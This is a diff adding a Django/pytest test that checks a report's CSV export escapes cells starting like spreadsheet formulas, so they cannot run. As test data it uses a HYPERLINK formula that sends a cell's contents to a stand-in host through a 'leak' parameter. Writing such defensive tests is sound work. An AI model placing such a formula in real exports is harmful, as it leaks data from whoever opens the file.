@@ -253,3 +253,33 @@ def test_api_generates_for_a_range_and_refuses_in_order(
     )
     assert made.status_code == 201
     assert made.json()["figures"]["volumes"]["resolved"]["total"] == 6
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_run_as_formulas(client, may_data, agent, quality, start):
+    """A category or team name from the data that starts like a formula is written as text (a
+    leading apostrophe, OWASP); numbers, negative ones too, stay numbers."""
+    formula = f'{start}HYPERLINK("https://example.invalid/?leak="&A1,"open")'
+    for complaint in list(may_data.values())[:2]:
+        type(complaint).objects.filter(pk=complaint.pk).update(category=formula)
+    agent.team.name = f"{start}SUM(1+1)"
+    agent.team.save()
+    report = services.report_generate(start=MAY_START, end=MAY_END, actor=quality, now=COMPUTED_AT)
+    client.force_login(quality)
+    body = client.get(reverse("report-page-csv", args=[report.pk])).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+    assert f"'{formula}" in cells  # the category
+    assert f"'{start}SUM(1+1)" in cells  # the team
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert "-50.0" in cells  # the NPS of a cause, still a number
+    assert [c for c in cells if c.startswith("-")] == [
+        c for c in cells if _number(c) and c[0] == "-"
+    ]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
